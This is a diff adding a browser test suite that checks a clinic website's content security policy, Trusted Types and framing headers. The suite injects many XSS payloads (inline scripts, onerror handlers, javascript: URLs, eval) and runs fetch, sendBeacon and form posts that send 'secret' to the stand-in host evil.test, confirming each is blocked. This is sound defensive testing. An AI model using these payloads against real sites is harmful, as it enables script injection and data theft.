@@ -1,0 +1,473 @@
+import { readFileSync } from 'node:fs'
+import { resolve } from 'node:path'
+import { setTimeout as wait } from 'node:timers/promises'
+import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core'
+import { anyPort } from '../../server/ports'
+import { serveSite, type RunningSite } from '../../server/site'
+import { builtPages, notFoundPath, siteDir } from '../helpers/builtSite'
+import { hydrate, inParallel } from '../helpers/siteBrowser'
+
+/**
+ * The content security policy and the other headers in a browser, from the server of `npm start`: every page and dialog goes
+ * through them without a violation, and what is smuggled into a page does not run. Each attempt is also made on the same page
+ * without its policies, where it must succeed: an attempt that cannot harm proves nothing.
+ */
+const urls = readFileSync('__tests__/golden/urls.txt', 'utf8').trim().split('\n')
+
+let browser: Browser
+let site: RunningSite
+const contexts: BrowserContext[] = []
+/** Every address the server was asked for, also by the browser on its own account. */
+const asked: string[] = []
+
+beforeAll(async () => {
+  ;[site, browser] = await Promise.all([
+    serveSite({ dir: resolve(siteDir), port: await anyPort(), before: ({ url }) => (asked.push(url!), false) }),
+    chromium.launch({
+      executablePath: process.env.CHROME_PATH ?? '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+    }),
+  ])
+}, 60_000)
+afterAll(async () => {
+  await browser?.close()
+  await site?.close()
+})
+afterEach(async () => {
+  await Promise.all(contexts.splice(0).map((context) => context.close()))
+})
+
+type Watched = { page: Page; violations: string[]; reset: () => Promise<string[]> }
+
+/** A page that tells of everything its policies refuse, by event, by report and in the console. */
+async function watched({ pictures = true } = {}): Promise<Watched> {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, permissions: ['clipboard-write'] })
+  contexts.push(context)
+  const violations: string[] = []
+  await context.exposeBinding('__refused', (_, what: string) => void violations.push(what))
+  await context.addInitScript(() => {
+    const tell = (what: string) => (window as unknown as { __refused: (what: string) => void }).__refused(`${what} on ${location.pathname}`)
+    document.addEventListener('securitypolicyviolation', (event) => tell(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`))
+    // Permissions policy and what else is reported, from the start of the page.
+    new ReportingObserver((reports) => reports.forEach(({ type, body }) => tell(`${type}: ${JSON.stringify(body)}`)), { buffered: true }).observe()
+  })
+  const page = await context.newPage()
+  page.setDefaultTimeout(20_000)
+  page.on('console', (message) => {
+    if (/content.security|violat|trusted|permissions.policy|refused to|not allowed|blocked/i.test(message.text())) violations.push(message.text())
+  })
+  page.on('pageerror', (error) => void violations.push(`thrown: ${error.message}`))
+  if (!pictures) await page.route('**/*', (route) => (/image|font|media/.test(route.request().resourceType()) ? route.abort() : route.continue()))
+  return { page, violations, reset: async () => (await page.evaluate(() => new Promise((done) => setTimeout(done, 0))), violations.splice(0)) }
+}
+
+const go = async (page: Page, path: string) => {
+  await page.goto(site.url + path, { waitUntil: 'load' })
+}
+/** Moves on as a link of the running site does. */
+const navigate = (page: Page, path: string) => page.evaluate((to) => (window as unknown as { ___navigate: (to: string) => void }).___navigate(to), path)
+
+describe('every page', () => {
+  it('runs its inline scripts under its own policy, with no violation', async () => {
+    const wrong: string[] = []
+    await inParallel([0, 1, 2, 3], 4, async (lane) => {
+      const { page, violations } = await watched({ pictures: false })
+      for (const path of urls.filter((_, i) => i % 4 === lane)) {
+        await go(page, path)
+        const state = await page.evaluate(() => ({
+          policyFirst: document.head.children[1]?.getAttribute('http-equiv'),
+          ran: '__early' in window && '__scripts' in window,
+          ownCluster: window.originAgentCluster,
+        }))
+        if (JSON.stringify(state) !== '{"policyFirst":"Content-Security-Policy","ran":true,"ownCluster":true}') wrong.push(`${path} ${JSON.stringify(state)}`)
+      }
+      wrong.push(...violations)
+    })
+    expect(wrong).toEqual([])
+  }, 120_000)
+
+  it('can be reached from page to page inside the running site, structured data and all, with no violation', async () => {
+    const { page, violations } = await watched({ pictures: false })
+    await go(page, '/')
+    await hydrate(page)
+    const wrong: string[] = []
+    for (const { path, html } of builtPages().filter((one) => one.path !== notFoundPath && one.path !== '/')) {
+      await navigate(page, path)
+      const title = /<title[^>]*>([^<]*)/.exec(html)![1]!.replaceAll('&#x27;', "'").replaceAll('&amp;', '&')
+      await page.waitForFunction(([to, name]) => location.pathname === to && document.title === name, [path, title])
+      const data = /<script[^>]*type="application\/ld\+json"[^>]*>([^]*?)<\/script>/.exec(html)?.[1] ?? '{}'
+      const shown = await page.evaluate(() => document.querySelector('script[type="application/ld+json"]')?.textContent)
+      if (shown !== data) wrong.push(`${path} says ${shown?.slice(0, 80)}`)
+    }
+    expect([...wrong, ...violations]).toEqual([])
+  }, 120_000)
+
+  it.each(['/masseter-botox/', '/cosmetalk/flawless-skin/', '/manchester/', '/team/dr-alex-sample/', '/product-analysis/gentle-cleanser/', '/privacy/'])(
+    'comes to life on %s with no violation',
+    async (path) => {
+      const { page, reset } = await watched({ pictures: false })
+      await go(page, path)
+      await hydrate(page)
+      expect(await reset()).toEqual([])
+    },
+  )
+
+  it('the not-found page does too, for an unknown product as well, and when the running site leads there', async () => {
+    const { page, reset } = await watched({ pictures: false })
+    await go(page, '/product-analysis/nothing-we-know/')
+    await page.getByRole('heading', { name: 'We have no analysis for this product' }).waitFor()
+    await go(page, '/')
+    await hydrate(page)
+    await navigate(page, '/no-such-page/')
+    await page.getByRole('heading', { name: 'Page not found' }).waitFor()
+    await navigate(page, '/lip-fillers/')
+    await page.getByRole('heading', { level: 1, name: /lip/i }).waitFor()
+    expect(await reset()).toEqual([])
+  })
+
+  it('the page in place of an old address leads on, with its query', async () => {
+    const { page, reset } = await watched({ pictures: false })
+    await go(page, '/booking/index.html?utm_source=x')
+    await page.waitForURL('**/contact/?utm_source=x')
+    expect(await reset()).toEqual([])
+  })
+
+  it('/cms/ opens under the policy of its own', async () => {
+    const { page, reset } = await watched()
+    const response = await page.goto(`${site.url}/cms/`)
+    expect(response!.headers()['content-security-policy']).toContain('https://api.github.com')
+    expect(await page.locator('meta[http-equiv]').count()).toBe(0)
+    expect(await reset()).toEqual([])
+  })
+})
+
+describe('every dialog and tool in use, with no violation', () => {
+  const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }
+  const replies: Record<string, unknown> = {
+    'ai-chat': { response: 'Lip fillers start at £300.\n\n<img src=x onerror="window.__ran = 1"><script>window.__ran = 1</script>' },
+    'aesthetic-analysis': { analysis: 'Your skin is even.\n\n<img src=x onerror="window.__ran = 1">' },
+    'raffle-offer': {
+      success: true,
+      offer: {
+        title: 'An unhurried consultation',
+        description: '<img src=x onerror="window.__ran = 1">',
+        personalizedMessage: 'Ann',
+        value: 'Fifteen minutes',
+        requiresVisit: true,
+        location: 'London',
+      },
+    },
+  }
+  const visit = async (path: string) => {
+    const seen = await watched()
+    await seen.page.route('**/functions/v1/*', (route) => {
+      const name = new URL(route.request().url()).pathname.split('/').at(-1)!
+      if (route.request().method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors })
+      if (!(name in replies))
+        return route.fulfill({ status: 403, headers: cors, json: { error: 'This link has expired.', code: 'token-expired', requestId: 'x' } })
+      return route.fulfill({ headers: cors, json: replies[name] })
+    })
+    await go(seen.page, path)
+    return seen
+  }
+  const box = (page: Page) => page.getByRole('dialog')
+
+  const uses: [name: string, path: string, use: (page: Page) => Promise<void>][] = [
+    [
+      'the drawer',
+      '/',
+      async (page) => {
+        await page.getByRole('banner').getByRole('button', { name: 'Menu', exact: true }).click()
+        await page.getByRole('dialog', { name: 'Menu' }).locator('summary, button').nth(1).click()
+        await page.keyboard.press('Escape')
+      },
+    ],
+    [
+      'search and its answer, which stays text',
+      '/',
+      async (page) => {
+        await page.getByRole('banner').getByRole('button', { name: 'Search' }).click()
+        const question = box(page).getByRole('textbox').first()
+        await question.fill('cosmederm')
+        await box(page).getByRole('list', { name: 'Suggested pages' }).getByRole('link').first().waitFor()
+        await question.fill('How much are lips?')
+        await question.press('Enter')
+        await box(page).getByText('<script>window.__ran = 1</script>').waitFor()
+      },
+    ],
+    [
+      'Menu & Contact',
+      '/',
+      async (page) => {
+        await page.locator('[data-dialog="menu"]:visible').first().click()
+        await page.getByRole('heading', { name: 'Dermatology' }).waitFor()
+        await page.keyboard.press('Escape')
+      },
+    ],
+    [
+      'the analysis, its steps and its report',
+      '/',
+      async (page) => {
+        await page.evaluate(() => (window.print = () => {}))
+        await page
+          .getByRole('main')
+          .getByRole('button', { name: /analysis/i })
+          .first()
+          .click()
+        for (let step = 1; step <= 5; step++) {
+          await box(page).getByText(`Step ${step} of 5`).waitFor()
+          if (step === 2) await box(page).getByRole('radiogroup', { name: 'Pores' }).getByRole('radio', { name: /^3/ }).check()
+          await box(page)
+            .getByRole('button', { name: step < 5 ? 'Next' : 'Generate Analysis' })
+            .click()
+        }
+        await box(page).getByText('<img src=x onerror="window.__ran = 1">').first().waitFor()
+        await box(page).getByRole('button', { name: 'Save Report' }).click()
+        await box(page).getByRole('button', { name: 'Take Another Analysis' }).click()
+      },
+    ],
+    [
+      'the offer',
+      '/popupoffer/',
+      async (page) => {
+        await box(page).getByRole('checkbox', { name: 'Pigmentation' }).check()
+        await box(page).getByRole('button', { name: 'Continue' }).click()
+        await box(page).getByRole('textbox', { name: 'Name' }).fill('Ann')
+        await box(page).getByRole('textbox', { name: 'Email' }).fill('ann@example.com')
+        await box(page).getByRole('textbox', { name: 'Location' }).fill('Leeds')
+        await box(page).getByRole('button', { name: 'Get my offer' }).click()
+        await box(page).getByText('<img src=x onerror="window.__ran = 1">').waitFor()
+      },
+    ],
+    [
+      'the gallery',
+      '/',
+      async (page) => {
+        await page
+          .getByRole('main')
+          .getByRole('button', { name: /^View / })
+          .nth(1)
+          .click()
+        await page.getByText('2 / 7').waitFor()
+        await box(page).getByRole('slider').focus()
+        await page.keyboard.press('End')
+        await box(page).getByRole('heading', { level: 3 }).click()
+        await page.keyboard.press('ArrowRight')
+        await page.getByText('3 / 7').waitFor()
+      },
+    ],
+    [
+      'the scores and how they are made',
+      '/',
+      async (page) => {
+        await page.getByRole('main').getByRole('button', { name: 'Before and after scores' }).click()
+        await page.locator('#dialog-scores table').waitFor()
+        await page.keyboard.press('Escape')
+        await page.getByRole('main').getByRole('button', { name: 'How we score' }).click()
+        await page.locator('#dialog-method dl').waitFor()
+      },
+    ],
+    [
+      'the cost estimator',
+      '/botox-cost-london/?areas=frown,forehead',
+      async (page) => {
+        await page.getByRole('checkbox', { name: /^Crow's feet/ }).check()
+        await page.getByRole('button', { name: 'Copy link' }).click()
+        await page.getByText('Link copied.').waitFor()
+      },
+    ],
+    [
+      'the finder and the face map',
+      '/treatments/',
+      async (page) => {
+        await hydrate(page)
+        await page.getByRole('combobox', { name: 'Area' }).selectOption('lips')
+        await page.getByRole('searchbox', { name: 'Treatment or word' }).fill('lip')
+        await page.waitForURL(/area=lips/)
+        await page.locator('main li > a[href^="/treatments/?area="]').first().hover()
+      },
+    ],
+    [
+      'the upload page',
+      '/admin/video-upload/',
+      async (page) => {
+        await page.getByRole('textbox', { name: 'One-time token' }).fill('a1'.repeat(32))
+        await page.getByLabel('Video', { exact: true }).setInputFiles({ name: 'film.mp4', mimeType: 'video/mp4', buffer: Buffer.alloc(100_000, 7) })
+        await page.getByRole('button', { name: 'Start upload' }).click()
+        await page.getByText('This link has expired.').waitFor()
+      },
+    ],
+    [
+      'the forced update of the sitemap',
+      '/about/',
+      async (page) => {
+        await page.evaluate(() => localStorage.setItem('forceSitemapUpdate', 'true'))
+        const said = page.waitForEvent('console', (message) => message.text().startsWith('[sitemap]'))
+        await page.reload()
+        expect((await said).text()).toMatch(/^\[sitemap\] \d+ routes found, \d+ in the published sitemap/)
+      },
+    ],
+  ]
+
+  it.each(uses)('%s', async (_, path, use) => {
+    const { page, reset } = await visit(path)
+    await use(page)
+    expect(await reset()).toEqual([])
+    expect(await page.evaluate(() => '__ran' in window)).toBe(false)
+  })
+})
+
+/** The page that is attacked, and where the attacker is. */
+const target = '/lip-fillers/'
+const foreign = 'http://evil.test'
+
+type Attack = { html?: string; code?: string }
+
+/** The page, with something put into its HTML, or with code that runs in it as the site's own would; and what came of it. */
+async function attack({ html = '', code = '' }: Attack, { policies }: { policies: boolean }) {
+  const { page, violations } = await watched({ pictures: false })
+  let sent = 0
+  asked.length = 0
+  await page.route(`${foreign}/**`, (route) => {
+    sent++
+    return route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: 'window.__ran = true' })
+  })
+  await page.route(site.url + target, async (route) => {
+    const response = await route.fetch()
+    const headers = response.headers()
+    delete headers['content-encoding']
+    let body = (await response.text()).replace('</main>', () => `${html}</main>`)
+    if (!policies) {
+      delete headers['content-security-policy']
+      body = body.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
+    }
+    await route.fulfill({ headers, body })
+  })
+  await page.goto(site.url + target, { waitUntil: 'domcontentloaded' })
+  // From a timer: what a debugger runs itself is let through.
+  if (code) await page.evaluate(`setTimeout(() => { ${code} })`)
+  const harmed = async () =>
+    sent > 0 ||
+    asked.includes('/about/?ahead') ||
+    (await page.evaluate(() => '__ran' in window || !document.baseURI.startsWith(location.origin)).catch(() => false))
+  const until = async (what: () => boolean | Promise<boolean>) => {
+    for (const end = Date.now() + 20_000; Date.now() < end; await wait(20)) if (await what()) return true
+    return false
+  }
+  // The policies' own word is what ends the wait: what they refuse, they report.
+  const done = policies ? await until(() => violations.length > 0) : await until(harmed)
+  const result = { ended: done, harmed: await harmed() }
+  await page.context().close()
+  contexts.splice(contexts.indexOf(page.context()), 1)
+  return result
+}
+
+const both = async (attempt: Attack) => ({ without: await attack(attempt, { policies: false }), under: await attack(attempt, { policies: true }) })
+const refused = { without: { ended: true, harmed: true }, under: { ended: true, harmed: false } }
+
+describe('what is smuggled into a page as markup does not run', () => {
+  const submit = "HTMLFormElement.prototype.submit.call(document.getElementById('bad'))"
+  it.each<[what: string, html: string, code?: string]>([
+    ['an inline script', '<script>window.__ran = true</script>'],
+    ['a module', '<script type="module">window.__ran = true</script>'],
+    ['an event handler', '<img src="/nothing.png" onerror="window.__ran = true">'],
+    ['an event handler of a drawing', '<svg onload="window.__ran = true"></svg>'],
+    ['a script of a foreign host', `<script src="${foreign}/a.js"></script>`],
+    ['a data: script', '<script src="data:text/javascript,window.__ran=true"></script>'],
+    ['a javascript: frame', '<iframe src="javascript:void(parent.__ran=true)"></iframe>'],
+    ['a frame with a document of its own', '<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>'],
+    ['a javascript: link', '<a id="bad" href="javascript:void(window.__ran=true)">Press</a>', "document.getElementById('bad').click()"],
+    ['a javascript: form', '<form id="bad" action="javascript:void(window.__ran=true)"></form>', submit],
+    ['a form that sends to a foreign host', `<form id="bad" action="${foreign}/take"><input name="q" value="secret"></form>`, submit],
+    ['a base for addresses', `<base href="${foreign}/">`],
+    ['a style sheet of a foreign host', `<link rel="stylesheet" href="${foreign}/a.css">`],
+    ['a picture of a foreign host', `<img src="${foreign}/a.png?secret">`],
+    ['a frame of a foreign host', `<iframe src="${foreign}/a.html"></iframe>`],
+    ['a plug-in', `<object data="${foreign}/a.svg" type="image/svg+xml"></object>`],
+    ['rules that fetch pages ahead', '<script type="speculationrules">{"prefetch":[{"urls":["/about/?ahead"],"eagerness":"immediate"}]}</script>'],
+  ])('%s', async (_, html, ...[code]) => expect(await both({ html, code })).toEqual(refused))
+})
+
+describe('what a script is tricked into does not run', () => {
+  const script = "const script = document.createElement('script');"
+  const insert = 'document.body.append(script)'
+  it.each([
+    ['markup put into an element', `document.querySelector('main').innerHTML = '<img src="/nothing.png" onerror="window.__ran = true">'`],
+    ['markup put beside an element', `document.querySelector('main').insertAdjacentHTML('afterend', '<img src="/nothing.png" onerror="window.__ran = true">')`],
+    ['markup written into the page', `document.write('<script>window.__ran = true<\\/script>')`],
+    ['markup parsed as a part of the page', `document.body.append(document.createRange().createContextualFragment('<script>window.__ran = true<\\/script>'))`],
+    ['eval', `eval('window.__ran = true')`],
+    ['new Function', `new Function('window.__ran = true')()`],
+    ['a timer with a text', `setTimeout('window.__ran = true')`],
+    ['a script element with a text', `${script} script.text = 'window.__ran = true'; ${insert}`],
+    ['a script element with a text node', `${script} script.append('window.__ran = true'); ${insert}`],
+    ['a script element with a foreign address', `${script} script.src = '${foreign}/a.js'; ${insert}`],
+    ['a script element with a data: address', `${script} script.src = 'data:text/javascript,window.__ran=true'; ${insert}`],
+    ['a foreign module', `import('${foreign}/a.js')`],
+    ['an event handler set as an attribute', `document.body.setAttribute('onclick', 'window.__ran = true'); document.body.click()`],
+    ['a javascript: address', `location.href = 'javascript:void(window.__ran = true)'`],
+    ['a worker from a text', `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => (window.__ran = true)`],
+    [
+      'a policy that lets everything through',
+      `document.querySelector('main').innerHTML = trustedTypes.createPolicy('lax', { createHTML: (html) => html }).createHTML('<img src="/nothing.png" onerror="window.__ran = true">')`,
+    ],
+    [
+      'a second policy with the name of the first',
+      `${script} script.src = trustedTypes.createPolicy('site', { createScriptURL: (url) => url }).createScriptURL('${foreign}/a.js'); ${insert}`,
+    ],
+    ['a message to a foreign host', `fetch('${foreign}/take', { method: 'POST', body: 'secret' })`],
+    ['a message that outlives the page', `navigator.sendBeacon('${foreign}/take', 'secret')`],
+  ])('%s', async (_, code) => expect(await both({ code })).toEqual(refused))
+})
+
+it('the site’s own policy gives the address of a script only for the site’s own', async () => {
+  const { page } = await watched({ pictures: false })
+  await go(page, target)
+  const given = (addresses: string[]) => page.evaluate((all) => all.map((one) => String(window.__scripts!.createScriptURL(one))), addresses)
+  const own = ['/app-0123456789abcdef0123.js', '/component---src-pages-404-tsx-0123456789abcdef0123.js', `${site.url}/app-0123456789abcdef0123.js`]
+  expect(await given(own)).toEqual(own)
+  const others = [
+    `${foreign}/a.js`,
+    '//evil.test/a.js',
+    '/\\evil.test/a.js',
+    'data:text/javascript,1',
+    'javascript:1',
+    '/cms/cms.js',
+    '/data/search.json',
+    `${foreign}/?${site.url}/a.js`,
+    '',
+  ]
+  expect(await given(others)).toEqual(others.map(() => ''))
+})
+
+it('no page of another site shows one of ours in a frame', async () => {
+  const framed = async (policies: boolean) => {
+    const { page } = await watched({ pictures: false })
+    const other = site.url.replace('localhost', '127.0.0.1')
+    await page.route(`${other}/frame`, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/privacy/"></iframe>` }))
+    await page.route(`${site.url}/privacy/`, async (route) => {
+      const response = await route.fetch()
+      const { 'content-encoding': _, 'x-frame-options': frames, 'content-security-policy': policy, ...headers } = response.headers()
+      await route.fulfill({
+        response,
+        headers: policies ? { ...headers, 'x-frame-options': frames!, 'content-security-policy': policy! } : headers,
+        body: await response.text(),
+      })
+    })
+    await page.goto(`${other}/frame`, { waitUntil: 'load' })
+    return page.frames()[1]!.evaluate(() => document.querySelector('#___gatsby h1') !== null)
+  }
+  expect({ without: await framed(false), under: await framed(true) }).toEqual({ without: true, under: false })
+})
+
+it('features that no page uses are off, and the browser knows every one that is named', async () => {
+  const { page, reset } = await watched({ pictures: false })
+  await go(page, '/')
+  const allowed = await page.evaluate(() =>
+    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures().filter((name) => !name.startsWith('ch-')),
+  )
+  expect(allowed).toContain('clipboard-write')
+  for (const off of ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'clipboard-read', 'fullscreen', 'unload'])
+    expect(allowed).not.toContain(off)
+  expect(await reset()).toEqual([])
+})
